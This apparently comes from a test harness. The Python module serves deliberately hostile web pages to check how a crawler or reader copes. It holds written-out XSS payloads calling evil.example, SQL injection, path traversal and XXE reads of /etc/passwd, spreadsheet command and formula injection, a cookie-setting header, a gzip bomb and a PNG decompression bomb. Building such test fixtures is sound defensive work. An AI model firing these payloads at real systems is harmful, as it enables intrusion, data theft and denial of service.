"""A family of sites that tries to harm whoever reads it: in titles, names, addresses, headers, bodies.

Everything it serves is also a working site of the static tree, so that its problems are found as
anywhere else. Whatever would act calls `evil.example`, which the city answers for and counts.
"""

from __future__ import annotations

import re
import struct
import zlib
from functools import cache
from html import escape
from typing import TYPE_CHECKING

from democity.families.trs import Trs
from democity.replies import HTML, Reply

if TYPE_CHECKING:
    from collections.abc import Callable

    from democity.content import Item, Now
    from democity.families.place import Page
    from democity.plans import ColumnPlan, SitePlan
    from democity.replies import Asked

EVIL = "http://evil.example/"
CALL = f"fetch('{EVIL}called')"
TEXTS = (
    f"关于<script>{CALL};alert(1)</script>工作的通知",
    f'"\'><img src=x onerror="{CALL}">召开会议',
    f"<svg onload=\"{CALL}\"><a xlink:href='javascript:alert(2)'>图解</a></svg>政策",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>{% raw %}专项行动",
    "'; DROP TABLE findings; --关于安全生产的通报",
    "' UNION SELECT password FROM desk_users --公告",
    "../../../../etc/passwd 公示",
    f'=HYPERLINK("{EVIL}","点击")统计',
    "=cmd|'/c calc'!A1 预算公开",
    "@SUM(1+1)*cmd|'/c calc'!A1 决算公开",
    "\u202egpj.exe 附件\u200b下载\u2066",
    "</title></textarea></style></noscript><script>alert(3)</script>调研",
    "javascript:alert(4)//规划",
    f"[点击]({EVIL}) ![图]({EVIL}p.png) 简报",
    "超长标题" * 400,
)
"""What titles, links and columns are called here. Each has a few characters of an honest title."""

ADDRESSES = (
    "javascript:fetch('http://evil.example/link')",
    "data:text/html,<script>alert(5)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/%2e%2e/%00",
    "http://evil.example/?q=\"'><script>alert(6)</script>",
    "http://user:password@evil.example:99999/",
    "file:///etc/passwd",
    "../../../../../../etc/passwd",
    "http://[::1",
)
DEAD = "/gone-for-good.html"
"""A dead link on the home page, whose text is a formula; the scenario says that it is planted."""

_HEAD = (
    f'<meta http-equiv="refresh" content="600;url={EVIL}refresh">\n'
    f'<base target="_blank"><style>@import "{EVIL}style.css";body{{background:url({EVIL}bg)}}</style>\n'
    f'<link rel="stylesheet" href="{EVIL}evil.css"><link rel="prefetch" href="{EVIL}prefetch">\n'
    f"<script>try{{{CALL}}}catch(e){{}};document.cookie='xuncha_desk=stolen'</script>\n"
)
_BODY = (
    f'<iframe src="{EVIL}frame" srcdoc="<script>{CALL}</script>" width="1" height="1"></iframe>\n'
    f'<object data="{EVIL}object"></object><embed src="{EVIL}embed">\n'
    f'<form action="{EVIL}form"><input name="q" autofocus onfocus="{CALL}"></form>\n'
    f'<svg width="9" height="9"><script>{CALL}</script><image href="{EVIL}svg.png"/></svg>\n'
    f'<math><mtext><img src=x onerror="{CALL}"></mtext></math>\n'
    f'<video poster="{EVIL}poster"><source src="{EVIL}video"></video>\n'
    '<img src="/huge.png" alt="大图"><img src="/drawn.svg" alt="矢量图">\n'
    f"<template><script>{CALL}</script></template><!--><script>{CALL}</script>-->\n"
)
_HEADERS = (
    ("X-Powered-By", f"<script>{CALL}</script>"),
    ("X-Formula", f'=HYPERLINK("{EVIL}","x")'),
    ("Set-Cookie", "xuncha_desk=stolen; Path=/"),
)
_ARTICLE_TEXT = re.compile(r"<h1>.*?</h1>", re.DOTALL)
BOMB_BYTES = 100 * 1024 * 1024
_PIXELS = 50_000


_NO_PICTURE = Reply(b"\x89PNG\r\n\x1a\n", 200, "image/png")
"""There, so that no link is dead; broken, so that `onerror` is called."""


def title(k: int) -> str:
    """What item `k` is called."""
    return f"{TEXTS[k % len(TEXTS)]}（{k}）"


class Hostile(Trs):
    """The static tree, written by somebody who hopes to be read by a machine."""

    name = "hostile"

    def anchor(self, page: Page, column: ColumnPlan, item: Item) -> str:
        """Titles as text; now and then as markup."""
        told = title(item.k)
        made = super().anchor(page, column, item._replace(title=escape(told)))
        return made.replace("</a>", f"{_raw(told)}</a>") if item.k % 3 == 0 else made

    def article_body(self, page: Page, item: Item, when: str, paragraphs: str) -> str:
        """The same title over a text that acts."""
        made = super().article_body(page, item._replace(title=escape(title(item.k))), when, "")
        return f"{made}{paragraphs}{_BODY}"

    def home(self, page: Page) -> str:
        """A dead link whose text is a formula, and links that lead astray."""
        links = "".join(
            f'<a href="{escape(one)}">{escape(TEXTS[place % len(TEXTS)][:60])}</a>\n'
            for place, one in enumerate(ADDRESSES)
        )
        dead = f'<a href="{DEAD}">{escape(TEXTS[7])}</a>'
        return (
            super()
            .home(page)
            .replace(
                '<div class="footer">',
                f'<div class="more">{links}{dead}</div>{_BODY}<div class="footer">',
                1,
            )
        )

    def whole(self, page: Page, title: str, labels: str, body: str) -> str:
        """Every page with a head that acts."""
        return super().whole(page, escape(title), labels + _HEAD, body)

    def navigation(self, page: Page) -> str:
        """An entry that is a bomb, and one under a name that is markup."""
        more = f'<li><a href="/bomb.html">{escape(TEXTS[0])}</a></li>'
        return super().navigation(page).replace("</ul></div>", f"{more}</ul></div>")

    def data(self, site: SitePlan, asked: Asked, now: Now) -> Reply | None:
        """Bombs and pictures that nobody can hold."""
        if asked.path.endswith("/x"):
            return _NO_PICTURE
        made = _SPECIAL.get(asked.path)
        return made() if made else super().data(site, asked, now)

    def encoded(self, site: SitePlan, made: str, now: Now) -> Reply:
        """Under headers that somebody may print."""
        reply = super().encoded(site, made, now)
        return Reply(reply.body, reply.status, HTML, (*reply.headers, *_HEADERS))


def _raw(text: str) -> str:
    """Markup that is no text: hidden, so that the row reads as it would."""
    return f'<span style="display:none" data-x="{escape(text[:40])}"><img src=x onerror="{CALL}"></span>'


@cache
def bomb() -> Reply:
    """A page of a hundred megabytes in a hundred kilobytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    piece = b"<p>" + b"\0" * (1024 * 1024 - 3)
    body = b"".join(packer.compress(piece) for _ in range(BOMB_BYTES // len(piece)))
    return Reply(body + packer.flush(), 200, HTML, (("Content-Encoding", "gzip"),))


def huge_picture(pixels: int = _PIXELS) -> bytes:
    """A PNG of a few bytes that says it is `pixels` wide and high."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", pixels, pixels, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 65_536, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def drawn() -> bytes:
    """An SVG with a script, an entity and a way out."""
    return (
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CALL}"><script>{CALL}</script>'
        f'<image href="{EVIL}svg"/><text>&x;</text></svg>'
    ).encode()


_SPECIAL: dict[str, Callable[[], Reply]] = {
    "/bomb.html": bomb,
    "/huge.png": lambda: Reply(huge_picture(), 200, "image/png"),
    "/drawn.svg": lambda: Reply(drawn(), 200, "image/svg+xml"),
}

FAMILY = Hostile()
